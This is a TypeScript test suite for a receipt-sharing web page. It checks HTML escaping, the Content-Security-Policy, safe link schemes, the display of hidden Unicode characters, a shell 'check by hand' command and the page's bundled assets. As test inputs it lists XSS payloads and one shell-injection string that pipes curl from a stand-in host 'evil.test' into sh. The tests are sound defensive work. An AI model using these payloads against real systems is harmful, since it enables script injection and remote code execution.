import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { gunzipSync } from 'node:zlib';
import type { App } from '@rcpt/service/http/app.ts';
import fc from 'fast-check';
import fastify from 'fastify';
import { shareAssets } from '../../src/http/share-assets.ts';
import { loadAssets } from '../../src/share/page/assets.ts';
import { PAGE_CSP, renderPage } from '../../src/share/page/page.ts';
import { commandByHand } from '../../src/share/words.ts';
import { genericReceipt, hash, LINK, PERSON, sealed } from '../kit/print.ts';

// The same values every time; TEST_SEED=<number> tries others.
fc.configureGlobal({ seed: Number(process.env.TEST_SEED ?? 1) });

/** A tag as the page writes them: lower-case names, quoted values without a bracket or a stray quote. */
const TAG = /<(\/?[a-z][a-z0-9]*)((?: [a-zA-Z:-]+(?:="[^"<>]*")?)*)\s*\/?>/g;

const SHOWN = /<span class="code-point">(?:\[U\+[0-9A-F]+(?:×\d+)?\])+<\/span>|<\/?bdi>/g;

/** The elements and attribute names of a page; what is left of it must hold no bracket. What texts are shown with is not counted. */
function skeleton(page: string): string[] {
  const body = page.replace('<!doctype html>', '').replace(SHOWN, '');
  assert.doesNotMatch(body.replace(TAG, ''), /[<>]/, 'a bracket that belongs to no tag');
  return Array.from(body.matchAll(TAG), ([, name, attributes = '']) => {
    return `${name}${attributes.replace(/="[^"]*"/g, '')}`;
  });
}

describe('the page of a receipt', () => {
  it('has the same elements and attributes whatever the sealed texts are', () => {
    const usual = skeleton(renderPage(sealed()));
    const hostile = fc.oneof(
      fc.string({ unit: 'binary', minLength: 1, maxLength: 80 }),
      fc.constantFrom(
        '<script>alert(1)</script>',
        '"><img src=x onerror=alert(1)>',
        "' onmouseover='alert(1)",
        '</title></main><iframe src=//evil.test>',
        '<!--',
        '&lt;b&gt;&#60;',
        'javascript:alert(1)',
        '{{7*7}}',
        '\u202e\u0000\u2028<b>',
      ),
    );
    fc.assert(
      fc.property(hostile, (text) => {
        const filled = (said: string) => `${said}${text}`.toWellFormed();
        assert.deepEqual(skeleton(renderPage(sealed(genericReceipt(filled)))), usual);
      }),
      { numRuns: 100 },
    );
  });

  it('is escaped and whole whatever shape a tampered receipt has', () => {
    fc.assert(
      fc.property(
        fc.object({
          maxDepth: 3,
          values: [fc.string({ unit: 'binary' }), fc.integer(), fc.constant('<b onclick="x">')],
        }),
        fc.string({ unit: 'binary' }),
        (tampered, text) => {
          for (const receipt of [
            tampered,
            { ...genericReceipt(), ...tampered },
            { ...genericReceipt(), verdict: tampered, checks: [tampered] },
          ]) {
            skeleton(
              renderPage({ receipt, bytes: text, verified: false, share_url: `http://ledger.test/share/${text}` }),
            );
          }
        },
      ),
      { numRuns: 100 },
    );
  });

  it('loads nothing from elsewhere and holds no inline script or style', () => {
    const page = renderPage(sealed());
    const loaded = Array.from(
      page.matchAll(/<(?:script|link|img|iframe|source|object)[^>]* (?:src|href)="([^"]*)"/g),
      (m) => m[1],
    );
    assert.deepEqual(loaded, [
      '../assets/page/inter.woff2',
      '../assets/page/page.css',
      '../assets/page/icon.svg',
      '../assets/page/verify.ts',
    ]);
    const urls = page.match(/https?:\/\/[^"<\s]+/g) ?? [];
    assert.deepEqual([...new Set(urls)], [LINK, `${LINK}/card.png`]);
    assert.doesNotMatch(page, / style=| on[a-z]+=|<style|<script(?! type="module" src=)|javascript:/);
    assert.match(page, /<script type="module" src="[^"]+"><\/script>/);
  });

  it('never links to anything but http and https', () => {
    const cook = (pin_share_url: string) =>
      renderPage(
        sealed({
          ...genericReceipt(),
          schema: 'service.cook-receipt/v1',
          cook: { base_model: 'm' },
          pinned_model: { slug: 'm', pin_receipt_id: 'RCPT-000001-00000000', pin_share_url },
        }),
      );
    assert.match(
      cook('https://other.test/share/a'),
      /<a href="https:\/\/other\.test\/share\/a" rel="noopener noreferrer nofollow">/,
    );
    for (const url of ['javascript:alert(1)', 'data:text/html,x', 'https:// spaced', '//other.test', 'vbscript:x']) {
      assert.ok(!cook(url).includes(`href="${url}`), url);
    }
  });

  it('forbids everything that is not asked for, inline code included', () => {
    assert.equal(
      PAGE_CSP,
      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
    );
    assert.doesNotMatch(PAGE_CSP, /unsafe|\*/);
  });

  it('says verdict, approval, checks, evidence, place in the chain and how to check by hand, without a script', () => {
    const input = sealed();
    const page = renderPage(input);
    const { receipt_sha256 } = input.receipt as { receipt_sha256: string };
    for (const said of [
      'Passed',
      '<strong>96</strong> / 100',
      '>29 May 2026, 20:14:33.123 UTC</time>',
      'Approved by Ada Okafor (person), 29 May 2026, 20:12:01.007 UTC',
      PERSON,
      'Rule 2',
      hash('3f7a'),
      hash('5d41'),
      `<dd dir="auto" class="hash" id="receipt-sha256">${receipt_sha256}</dd>`,
      '<dd dir="auto" class="hash" id="receipt-id">RCPT-000012-9f3ac01b</dd>',
      'shasum -a 256',
      'href="./q3v8Zr1mYt6bK0sWc2LdQw/pdf"',
      'data-download="./q3v8Zr1mYt6bK0sWc2LdQw/download"',
      '<meta property="og:title" content="Weekly digest">',
      'aria-live="polite"',
      'Not checked yet.',
    ]) {
      assert.ok(page.includes(said), `the page does not say ${said}`);
    }
    assert.doesNotMatch(page, /no longer matches/);
  });

  it('calls an altered receipt altered, in its title too, and repeats its verdict only as a claim', () => {
    const page = renderPage({ ...sealed(), verified: false });
    assert.match(page, /<div class="altered" role="alert">.*This receipt no longer matches its hash/);
    assert.match(page, /<title>Altered: /);
    assert.match(page, /As stored: Passed/);
    assert.match(page, /og:description" content="This receipt no longer matches its hash/);
    assert.doesNotMatch(page, /class="verdict good"/);
  });

  it('compares files with what a lane seals, by hand too, and with nothing once altered', () => {
    const sealedOf = (blocks: object, verified = true) =>
      renderPage({ ...sealed({ ...genericReceipt(), ...blocks }), verified });
    const execution = { output_sha256: hash('ab12'), output_bytes: 5 };
    const page = sealedOf({ execution });
    assert.match(page, /seals the SHA-256 of the output, and of one piece of evidence\./);
    assert.match(
      page,
      /<input class="visually-hidden" id="file" type="file" multiple aria-describedby="[^"]+">\n<label class="button" for="file">/,
    );
    assert.match(page, /<div class="drop" id="drop" hidden>/);
    assert.ok(page.includes(`For the output it has to print <span class="hash">${hash('ab12')}</span>`));
    assert.match(sealedOf({}), /seals the SHA-256 of one piece of evidence\./);
    assert.match(sealedOf({ execution, evidence: [] }), /seals the SHA-256 of the output\. /);
    const none = [
      sealedOf({ evidence: [] }),
      sealedOf({ evidence: [], execution: { output_sha256: '', output_bytes: 0 } }),
      sealedOf({ schema: 'service.cook-receipt/v1', execution }),
    ];
    for (const silent of none) assert.doesNotMatch(silent, /Compare a file/);
    const altered = sealedOf({ execution }, false);
    assert.match(altered, /The receipt itself does not verify, so no file is compared with it\./);
    assert.doesNotMatch(altered, /type="file"|has to print <span class="hash">ab12/);
  });

  it('shows what cannot be seen: overrides, zero width, controls', () => {
    const page = renderPage(
      sealed(genericReceipt((usual) => (usual === 'Weekly digest' ? 'a\u202egnp.exe\u0007\u200b' : usual))),
    );
    const title = /<h1[^>]*>(.*?)<\/h1>/.exec(page)?.[1] ?? '';
    assert.deepEqual(title.match(/U\+[0-9A-F]{4}/g), ['U+202E', 'U+0007', 'U+200B']);
    assert.doesNotMatch(page, /[\u202e\u0007\u200b]/);
  });
});

describe('the check by hand', () => {
  it('holds nothing of an altered receipt that a shell would run', () => {
    const bytes = `{"a":{"receipt_sha256":"${hash('ab')}"},"b":{"receipt_sha256":"${hash('cd')}"}}`;
    const command = commandByHand(bytes, "0'; curl evil.test | sh; '", 'receipt.json');
    assert.equal(command, commandByHand('{}', hash('ab'), 'receipt.json'));
  });

  const perl = spawnSync('perl', ['-v']).status === 0 && spawnSync('shasum', ['--version']).status === 0;
  const nested = {
    ...genericReceipt(),
    run: { id: 'r', lane: 'generic', title: 't', inputs: { receipt_sha256: hash('ab') } },
    aaa: { receipt_sha256: hash('cd') },
  };

  for (const [name, payload] of [
    ['a receipt', genericReceipt((usual) => `${usual} Ω漢"\\`)],
    ['a receipt that quotes other receipts', nested],
  ] as const) {
    it(`prints the hash of ${name}`, { skip: !perl }, () => {
      const input = sealed(payload);
      const { receipt_sha256 } = input.receipt as { receipt_sha256: string };
      const folder = mkdtempSync(join(tmpdir(), 'by-hand-'));
      try {
        writeFileSync(join(folder, 'receipt.json'), input.bytes);
        const command = commandByHand(input.bytes, receipt_sha256, 'receipt.json');
        const printed = spawnSync('sh', ['-c', command], { cwd: folder, encoding: 'utf8' }).stdout;
        assert.equal(printed.split(' ')[0], receipt_sha256);
      } finally {
        rmSync(folder, { recursive: true });
      }
    });
  }
});

describe('what the page loads', () => {
  const assets = loadAssets();

  it('is complete: every import of every script is among the assets', () => {
    for (const [path, { body, content_type }] of assets) {
      if (!path.endsWith('.ts')) continue;
      assert.equal(content_type, 'text/javascript; charset=utf-8');
      for (const [, specifier = ''] of body.toString().matchAll(/\b(?:from|import)\s*\(?['"]([^'"]+)['"]/g)) {
        assert.match(specifier, /^\.\.?\//, `${path} imports ${specifier}`);
        assert.ok(assets.has(new URL(specifier, `http://assets${path}`).pathname), `${path} imports ${specifier}`);
      }
    }
    assert.ok(assets.has('/assets/proof/receipt.ts'));
    assert.ok(assets.has('/assets/page/hash-file.ts'), 'the worker, which no script imports');
    for (const [path, { content_type, policy }] of assets) {
      if (content_type.startsWith('text/javascript')) assert.equal(policy, "default-src 'none'; script-src 'self'");
      else if (path !== '/assets/verify.html') assert.equal(policy, undefined, path);
    }
  });

  it('is what the page asks for', () => {
    const asked = Array.from(
      renderPage(sealed()).matchAll(/(?:src|href)="\.\.(\/assets\/[^"]+)"/g),
      (match) => match[1]!,
    );
    assert.equal(asked.length, 5);
    for (const path of asked) assert.ok(assets.has(path), path);
  });

  it('offers the offline verifier, one file that may load and send nothing', () => {
    const { body, content_type, policy } = assets.get('/assets/verify.html')!;
    const page = body.toString();
    assert.equal(content_type, 'text/html; charset=utf-8');
    assert.match(
      policy!,
      /^default-src 'none'; script-src 'sha256-[^']+'; style-src 'sha256-[^']+'; font-src data:; img-src data:;/,
    );
    assert.doesNotMatch(policy!, /unsafe|https?:|self|connect-src/);
    for (const [, kind, content] of page.matchAll(/<(script|style)[^>]*>([\s\S]*?)<\/\1>/g)) {
      const hash = createHash('sha256').update(content!).digest('base64');
      assert.ok(policy!.includes(`${kind}-src 'sha256-${hash}'`), kind);
    }
    assert.equal(page.match(/<(script|style)/g)?.length, 2);
    const loads = /(?:src|href)="(?!data:)|@import|url\((?!"data:)|\bfetch\(|XMLHttpRequest|import\(/.exec(page);
    assert.equal(loads?.[0], undefined);
  });

  it('is small on the wire, also where something is disclosed', async () => {
    const app = fastify();
    shareAssets(app as unknown as App);
    const loaded = async (...entries: string[]) => {
      const paths = new Set(entries);
      let sum = 0;
      for (const url of paths) {
        const { headers, rawPayload } = await app.inject({ url, headers: { 'accept-encoding': 'gzip' } });
        assert.equal(headers['content-encoding'], 'gzip', url);
        sum += rawPayload.length;
        for (const [, specifier] of gunzipSync(rawPayload)
          .toString()
          .matchAll(/\b(?:from|import)\s*['"]([^'"]+)['"]/g))
          paths.add(new URL(specifier!, `http://assets${url}`).pathname);
      }
      return { paths, sum };
    };
    const always = await loaded('/assets/page/verify.ts');
    for (const later of ['file-hashes', 'sealed-files', 'shown'])
      for (const path of always.paths) assert.doesNotMatch(path, new RegExp(`/${later}\\.ts$`));
    const hashing = '/assets/page/hash-file.ts';
    const disclosed = await loaded('/assets/page/verify.ts', '/assets/page/beside.ts', hashing);
    assert.ok(disclosed.sum < 30_000, `${disclosed.sum} bytes of script where something is disclosed`);
    const compared = await loaded('/assets/page/verify.ts', '/assets/page/table.ts', hashing);
    assert.ok(compared.sum < 30_000, `${compared.sum} bytes of script once a file is compared`);
    const signed = await loaded('/assets/page/verify.ts', '/assets/page/approval.ts');
    assert.ok(signed.sum < 30_000, `${signed.sum} bytes of script once a signature is checked`);
    await app.close();
  });

  it('is plain JavaScript, and changes its etag with its bytes', () => {
    const etags = Array.from(assets.values(), ({ etag }) => etag);
    assert.equal(new Set(etags).size, etags.length);
    for (const etag of etags) assert.match(etag, /^"[\w-]{22}"$/);
    const style = assets.get('/assets/page/page.css')!.body.toString();
    assert.doesNotMatch(style, /@import/);
    for (const [, url] of style.matchAll(/url\("?([^)"]*)/g)) assert.ok(assets.has(`/assets/page/${url}`), url);
  });
});
